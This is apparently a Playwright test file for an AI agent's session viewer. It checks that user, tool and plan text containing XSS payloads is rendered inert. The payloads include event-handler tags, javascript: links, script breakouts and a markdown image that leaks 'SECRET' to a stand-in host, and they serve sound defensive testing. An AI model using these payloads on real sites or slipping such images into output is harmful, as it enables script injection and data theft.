/** A29: text of others in every place of the page: no script, no foreign request, no report of the policy. */
import assert from "node:assert/strict";
import { before, describe, it } from "node:test";
import type { Page } from "playwright-core";
import type { EventBody, Step } from "../../../src/core/events.ts";
import { type Chromium, status, WITH_CHROMIUM } from "../../support/chromium.ts";
import {
  call,
  events,
  file,
  greeting,
  ID,
  now,
  prose,
  script,
  send,
  snapshot,
  user,
  waits,
} from "../../support/scripted-session.ts";
import { bareStage } from "../../support/stage.ts";

const EVIL = [
  "<img src=x onerror=\"document.title='owned'\">",
  "<svg/onload=\"document.title='owned'\">",
  "[x](javascript:document.title='owned')",
  "[x](data:text/html,<script>1</script>)",
  "![a](https://example.invalid/?q=SECRET)",
  "![a](//example.invalid/?q=SECRET)",
  '<iframe src="https://example.invalid/"></iframe>',
  "</script><script>document.title='owned'</script>",
  "\u001b]8;;javascript:alert(1)\u001b\\click\u001b]8;;\u001b\\ \u001b[31mred\u001b[0m",
  '<a href="javascript:document.title=1" style="position:fixed;inset:0">x</a>',
  "<style>body{background:url(https://example.invalid/s)}</style>",
  "```html\n<script>document.title='owned'</script>",
];
const PIXEL = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
const ALL = EVIL.join("\n\n");
const step = (status: Step["status"]): Step => ({
  id: "s",
  description: ALL,
  status,
  ...(status === "failed" && { error: ALL }),
});

const STORY: EventBody[] = [
  user("u", ALL, [file(`${EVIL[0]}.txt`, "text/plain")]),
  now("running", "planning"),
  { event: "title", data: { title: ALL } },
  prose("p", ALL, "plan"),
  { event: "plan", data: { op: "created", steps: [step("running")] } },
  { event: "step", data: step("running") },
  ...call(
    "c1",
    { name: "shell", function: ALL, args: { command: ALL }, brief: ALL },
    { command: ALL, output: ALL, exit_code: 1 },
  ),
  ...call(
    "c2",
    { name: "file", function: "file_write", args: { path: ALL } },
    { path: ALL, content: ALL, old_content: "x" },
  ),
  ...call(
    "c3",
    { name: "search", function: "info_search_web", args: { query: ALL } },
    { results: [{ title: ALL, link: "javascript:alert(1)", snippet: ALL }] },
  ),
  ...call(
    "c4",
    { name: "search", function: "web_fetch", args: { url: "javascript:alert(1)" } },
    { url: "javascript:alert(1)", title: ALL, content: ALL },
  ),
  ...call(
    "c5",
    { name: "browser", function: "browser_view" },
    { url: ALL, title: ALL, screenshot: "https://example.invalid/shot.png" },
  ),
  ...call(
    "c6",
    { name: "mcp", function: "mcp_x_y", args: { [ALL]: ALL } },
    { result: { [ALL]: ALL } },
  ),
  {
    event: "review",
    data: { verdict: "fail", score: 3, issues: EVIL, next_action: "replan", round: 1 },
  },
  { event: "step", data: step("failed") },
  { event: "plan", data: { op: "updated", steps: [{ ...step("running"), id: "t" }] } },
  { event: "notice", data: { code: "tool_left_out", text: ALL } },
  prose("q", ALL, "question"),
  { event: "wait", data: waits({ text: ALL, options: EVIL }) },
  now("waiting", "waiting"),
];

describe("text of others", WITH_CHROMIUM, () => {
  let url: string;
  let chromium: Chromium;
  before(async () => {
    ({ url, chromium } = await bareStage());
  });

  async function open(bodies: EventBody[], wait = bodies.some((b) => b.event === "wait")) {
    const opened = await chromium.open();
    const { page } = opened;
    const log = events(bodies);
    const session = { title: ALL, last_seq: log.length, wait: wait ? waits({ text: ALL }) : null };
    await script(page, {
      session,
      files: [file(`${EVIL[0]}.md`, "text/markdown"), file("a.png", "image/png")],
      socket: (socket, after_) => {
        for (const frame of greeting(snapshot(session), after_, log)) send(socket, frame);
      },
    });
    await page.route("**/files/**", (route) =>
      route.request().url().includes(".png")
        ? route.fulfill({ contentType: "image/png", body: PIXEL })
        : route.fulfill({ contentType: "text/plain", body: ALL }),
    );
    await page.goto(`${url}/#/s/${ID}`);
    return opened;
  }

  async function unharmed(page: Page) {
    assert.doesNotMatch(await page.title(), /^owned/);
    const found = await page.evaluate(() => ({
      scripts: document.querySelectorAll(
        "#app script, #app iframe, #app style, #app [onerror], #app [onload]",
      ).length,
      images: [...document.querySelectorAll("#app img")].filter(
        (i) => !(i as HTMLImageElement).src.startsWith(location.origin),
      ).length,
      links: [...document.querySelectorAll<HTMLAnchorElement>("#app a")]
        .filter((a) => !a.href.startsWith(location.origin) && !/^(?:https?|mailto):/.test(a.href))
        .map((a) => a.href),
      open: [...document.querySelectorAll<HTMLAnchorElement>("#app a[target]")].filter(
        (a) => a.rel !== "noopener noreferrer",
      ).length,
    }));
    assert.deepEqual(found, { scripts: 0, images: 0, links: [], open: 0 });
  }

  it("A29: is text in messages, plan, steps, questions, options, titles and file names", async () => {
    const { context, page } = await open(STORY);
    await page.getByTestId("question").waitFor();
    await page.locator(".markdown").first().waitFor();
    await page.getByTestId("plan").getByRole("button").first().click();
    await unharmed(page);
    await page.screenshot({ path: "test-results/text.png" });
    await context.close();
  });

  it("A29: is text in every viewer, in raw arguments and in previews of files", async () => {
    const { context, page } = await open(STORY);
    const rows = page.locator("[data-testid=tool-row], .review-row");
    await rows.first().waitFor();
    assert.equal(await rows.count(), 7);
    for (let i = 0; i < 7; i++) {
      await rows.nth(i).click();
      const detail = page.locator(".detail");
      await detail.waitFor();
      for (const raw of await detail.locator(".raw > summary").all()) await raw.click();
      await unharmed(page);
    }
    await page.getByTitle("Files and usage").click();
    await page.getByTestId("file").first().getByRole("button").first().click();
    await page.getByTestId("preview").locator(".markdown").waitFor();
    await unharmed(page);
    await context.close();
  });

  it("A29: is text in an approval, in an error and where a turn was stopped", async () => {
    const approval = waits({
      kind: "approval",
      text: ALL,
      tool: { function: ALL, args: { [ALL]: ALL } },
    });
    const first = await open([
      user("u", ALL),
      now("running", "executing"),
      { event: "wait", data: approval },
      now("waiting", "waiting"),
    ]);
    await first.page.getByTestId("question").waitFor();
    await unharmed(first.page);
    await first.context.close();
    const second = await open([
      user("u", ALL),
      now("running", "executing"),
      { event: "error", data: { code: "internal", message: ALL, retryable: true } },
      { event: "done", data: { outcome: "failed", run: 1 } },
      now("failed", "completed"),
    ]);
    await status(second.page, "failed");
    await unharmed(second.page);
    await second.context.close();
  });

  it("shows a remote image as a link that names its host, and an image of the session as an image", async () => {
    const { context, page } = await open([
      user("u", "x"),
      now("running", "answering"),
      prose("a", "![chart](out/chart.png) ![spy](https://example.invalid/p.png)", "answer"),
    ]);
    const link = page.getByRole("link", { name: /spy.*example\.invalid/ });
    await link.waitFor();
    assert.equal(await link.getAttribute("rel"), "noopener noreferrer");
    assert.match(
      (await page.getByRole("img", { name: "chart" }).getAttribute("src")) ?? "",
      /\/files\/out\/chart\.png\?inline$/,
    );
    await context.close();
  });

  it("draws Markdown, and keeps what is no Markdown as it was written", async () => {
    const { context, page } = await open([
      user("u", "x"),
      now("running", "answering"),
      prose(
        "a",
        "# Head\n\n- **bold** `x<y>` &amp; <b>raw</b>\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\nconst a = 1;\n```",
        "answer",
      ),
    ]);
    const answer = page.locator("[data-kind=answer]");
    await answer.locator("strong", { hasText: "bold" }).waitFor();
    assert.equal(await answer.locator("li").textContent(), "bold x<y> & <b>raw</b>");
    assert.equal(await answer.locator("td.align-right").textContent(), "2");
    await answer.locator(".hljs-keyword", { hasText: "const" }).waitFor();
    await context.close();
  });

  it("has had no error in its console, no report of its policy, and no request to elsewhere", () => {
    assert.deepEqual(chromium.problems, []);
  });
});
